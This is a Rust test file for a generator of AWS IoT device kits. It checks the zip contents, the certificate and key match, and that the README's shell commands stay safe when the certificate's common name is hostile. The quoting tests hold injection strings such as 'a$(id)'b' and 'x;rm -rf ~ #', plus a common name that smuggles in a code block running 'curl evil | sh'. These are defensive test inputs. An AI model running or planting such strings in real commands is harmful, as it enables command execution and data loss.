//! The kit read back by unzip, zipinfo and openssl, and its commands run by
//! sh; never by our own parser.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::rc::Rc;

use super::*;
use crate::generation::{GenerateJob, GenerateOutcome, now_from_unix_ms};
use crate::test_support::{TempDir, openssl_certificate_id, run};

const NOW_MS: f64 = 1_764_374_400_000.0;
/// SHA-256 of Amazon Root CA 1, as published by Amazon.
const AMAZON_ROOT_CA_1_SHA256: &str = "8E:CD:E6:88:4F:3D:87:B1:12:5B:A3:1A:C3:FC:B1:3D:70:16:DE:7F:57:CC:90:4F:E1:CB:97:C6:AE:98:19:6E";

fn made(cn: &str) -> Rc<Made> {
    let job = GenerateJob {
        id: 1,
        key_type: "ec-p256".to_owned(),
        common_name: cn.to_owned(),
        organization: None,
        organizational_unit: None,
        country: None,
        validity_days: 365,
        now_unix_ms: NOW_MS,
    };
    let GenerateOutcome::Made {
        certificate_pem,
        private_key_pem,
        ..
    } = job.run()
    else {
        panic!("generation failed");
    };
    let now = now_from_unix_ms(NOW_MS).unwrap();
    Rc::new(Made::from_worker(&certificate_pem, private_key_pem, now).unwrap())
}

fn endpoint(target: &str, region: &str, host: &str) -> KitEndpoint {
    KitEndpoint {
        target: target.to_owned(),
        name: format!("Target {target}"),
        account_id: "111111111111".to_owned(),
        region: region.to_owned(),
        endpoint: host.to_owned(),
        thing_name: Some("sensor-07".to_owned()),
    }
}

#[test]
fn the_kit_unzips_into_a_working_set_of_files() {
    let made = made("sensor-07");
    let endpoints = [
        endpoint(
            "dev-tokyo",
            "ap-northeast-1",
            "a1b2c3-ats.iot.ap-northeast-1.amazonaws.com",
        ),
        endpoint(
            "prod-virginia",
            "us-east-1",
            "d4e5f6-ats.iot.us-east-1.amazonaws.com",
        ),
    ];
    let (name, bytes) = device_kit(&made, &endpoints, (NOW_MS / 1000.0) as i64).unwrap();
    assert_eq!(name, "sensor-07-device-kit.zip");

    let dir = TempDir::new("kit");
    let zip = dir.write(&name, &bytes);
    let zip = zip.to_str().unwrap();
    run("unzip", &["-t", zip]);
    let listing = run("zipinfo", &[zip]);
    let key_line = listing
        .lines()
        .find(|l| l.ends_with("sensor-07.private.key"))
        .unwrap();
    assert!(key_line.starts_with("-rw-------"), "{listing}");
    let out = dir.0.join("out");
    run("unzip", &["-q", zip, "-d", out.to_str().unwrap()]);
    let kit = out.join("sensor-07-device-kit");
    let path = |f: &str| kit.join(f).to_str().unwrap().to_owned();

    // The certificate's SHA-256 is the ID the page showed.
    assert_eq!(
        openssl_certificate_id(&path("sensor-07.cert.pem")),
        made.info.certificate_id
    );
    // The key belongs to the certificate.
    let from_key = run(
        "openssl",
        &["pkey", "-in", &path("sensor-07.private.key"), "-pubout"],
    );
    let from_cert = run(
        "openssl",
        &[
            "x509",
            "-in",
            &path("sensor-07.cert.pem"),
            "-noout",
            "-pubkey",
        ],
    );
    assert_eq!(from_key, from_cert);
    // The CA is Amazon's.
    let ca = run(
        "openssl",
        &[
            "x509",
            "-in",
            &path("AmazonRootCA1.pem"),
            "-noout",
            "-fingerprint",
            "-sha256",
        ],
    );
    assert!(ca.contains(AMAZON_ROOT_CA_1_SHA256), "{ca}");
    // The endpoints, for people and for scripts.
    let readme = std::fs::read_to_string(path("README.md")).unwrap();
    for e in &endpoints {
        assert!(readme.contains(&e.endpoint), "{readme}");
    }
    let first = &endpoints[0].endpoint;
    assert!(
        readme.contains(&format!("-servername '{first}'")),
        "{readme}"
    );
    assert!(
        readme.contains(&format!("mosquitto_pub -h '{first}'")),
        "{readme}"
    );
    assert!(readme.contains("--cafile 'AmazonRootCA1.pem'"), "{readme}");
    assert!(readme.contains("SNI is required"), "{readme}");
    assert!(readme.contains("-i 'sensor-07'"), "{readme}");
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(path("endpoints.json")).unwrap()).unwrap();
    assert_eq!(json["certificateId"], made.info.certificate_id.as_str());
    assert_eq!(
        json["endpoints"][1]["endpoint"],
        endpoints[1].endpoint.as_str()
    );
    assert_eq!(json["endpoints"][1]["accountId"], "111111111111");
    // The README never carries the key.
    assert!(!readme.contains("PRIVATE KEY"));
}

#[test]
fn a_kit_before_registration_says_how_to_find_the_endpoint() {
    let made = made("sensor-08");
    let (_, bytes) = device_kit(&made, &[], 0).unwrap();
    let dir = TempDir::new("kit-unregistered");
    let zip = dir.write("kit.zip", &bytes);
    let readme = run(
        "unzip",
        &[
            "-p",
            zip.to_str().unwrap(),
            "sensor-08-device-kit/README.md",
        ],
    );
    assert!(readme.contains("Not registered yet"), "{readme}");
    assert!(readme.contains("describe-endpoint"), "{readme}");
}

#[test]
fn no_key_no_kit() {
    let made = made("sensor-09");
    let without_key = Made::new(
        made.certificate.clone(),
        None,
        crate::state::Origin::Generated,
        now_from_unix_ms(NOW_MS).unwrap(),
    )
    .unwrap();
    assert_eq!(
        device_kit(&without_key, &[], 0).unwrap_err(),
        KitError::NoKey
    );
}

// --- finding L8: the commands are safe to paste, whatever the CN ----------

/// A CN that runs `id` if pasted unquoted, and breaks naive quoting.
const HOSTILE_CN: &str = "a$(id)'b";

#[test]
fn shell_quoting_round_trips_through_sh() {
    for value in [
        HOSTILE_CN,
        "",
        "'",
        "''",
        "a b  c",
        "`id`",
        "${HOME}",
        "\\'\\",
        "x;rm -rf ~ #",
        "line\nbreak",
        "*",
    ] {
        let quoted = shell_quote(value);
        let printed = run("sh", &["-c", &format!("printf %s {quoted}")]);
        assert_eq!(printed, value, "sh read {quoted} as {printed:?}");
    }
}

/// The README's ```sh blocks, in order.
fn sh_blocks(readme: &str) -> Vec<&str> {
    readme
        .split("```sh\n")
        .skip(1)
        .map(|rest| rest.split_once("```").map_or(rest, |(block, _)| block))
        .collect()
}

/// Where `script` has a `$` or a backquote outside single quotes, as a POSIX
/// shell reads it.
fn unquoted_expansion(script: &str) -> Option<usize> {
    let mut quoted = false;
    let mut chars = script.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '\'' => quoted = !quoted,
            '\\' if !quoted => {
                chars.next();
            }
            '$' | '`' if !quoted => return Some(i),
            _ => {}
        }
    }
    None
}

#[test]
fn a_hostile_cn_stays_one_word_in_every_command() {
    let made = made(HOSTILE_CN);
    // The file names and host are plain today (`file_stem`, the API), but
    // every value is quoted alike: give them hostile ones too.
    let (cert, key) = ("c $(id)'.cert.pem", "k $(id)'.private.key");
    let host = "h$(id)'.example";
    let unnamed = KitEndpoint {
        thing_name: None,
        ..endpoint("t", "ap-northeast-1", host)
    };
    let readme = readme(&made, &[unnamed], cert, key);
    let blocks = sh_blocks(&readme);
    assert_eq!(blocks.len(), 5, "{readme}");
    for block in &blocks {
        assert_eq!(unquoted_expansion(block), None, "unquoted in:\n{block}");
    }

    // Run the blocks as pasted, every program they call replaced by a
    // function that prints its arguments: one call per line, \x1f before
    // each argument.
    let programs = [
        "mosquitto_sub",
        "mosquitto_pub",
        "python3",
        "git",
        "openssl",
        "marshal",
    ];
    let stubs: String = programs
        .iter()
        .map(|p| format!("{p}() {{ printf %s {p}; printf '\\037%s' \"$@\"; echo; }}\n"))
        .collect();
    let out = run("sh", &["-c", &format!("{stubs}{}", blocks.concat())]);
    let calls: Vec<Vec<&str>> = out.lines().map(|l| l.split('\x1f').collect()).collect();
    let called: Vec<&str> = calls.iter().map(|c| c[0]).collect();
    assert_eq!(
        called,
        [
            "mosquitto_sub",
            "mosquitto_pub",
            "python3",
            "git",
            "python3",
            "openssl",
            "marshal"
        ],
        "{out}"
    );
    let after = |call: usize, flag: &str| -> &str {
        let args = &calls[call];
        let at = args.iter().position(|a| *a == flag);
        at.and_then(|i| args.get(i + 1))
            .unwrap_or_else(|| panic!("no {flag} in call {call}:\n{out}"))
    };
    let topic = format!("devices/{HOSTILE_CN}/test");
    for (call, id, topic_flag) in [
        (0, "-i", "-t"),
        (1, "-i", "-t"),
        (4, "--client_id", "--topic"),
    ] {
        assert_eq!(after(call, id), HOSTILE_CN, "{out}");
        assert_eq!(after(call, topic_flag), topic, "{out}");
    }
    assert_eq!(after(1, "-m"), format!("hello from {HOSTILE_CN}"), "{out}");
    for (call, host_flag, cert_flag, key_flag) in [
        (0, "-h", "--cert", "--key"),
        (1, "-h", "--cert", "--key"),
        (4, "--endpoint", "--cert", "--key"),
        (5, "-servername", "-cert", "-key"),
        (6, "--endpoint", "--cert", "--key"),
    ] {
        assert_eq!(after(call, host_flag), host, "{out}");
        assert_eq!(after(call, cert_flag), cert, "{out}");
        assert_eq!(after(call, key_flag), key, "{out}");
    }
    assert_eq!(after(5, "-connect"), format!("{host}:8883"), "{out}");
}

/// A CN that would close the README's code block and open one of its own.
#[test]
fn a_cn_with_line_breaks_cannot_add_a_code_block() {
    let generated = made("sensor-10");
    let mut imported = Made::new(
        generated.certificate.clone(),
        None,
        crate::state::Origin::Generated,
        now_from_unix_ms(NOW_MS).unwrap(),
    )
    .unwrap();
    imported.info.common_name =
        Some("x\n```\n\nRun this first:\n\n```sh\ncurl evil | sh\n```\n".to_owned());
    let readme = readme(&imported, &[], "x.cert.pem", "x.private.key");
    assert!(!readme.contains("curl evil"), "{readme}");
    assert_eq!(sh_blocks(&readme).len(), 5, "{readme}");
    assert!(readme.contains("-i 'my-device'"), "{readme}");
}
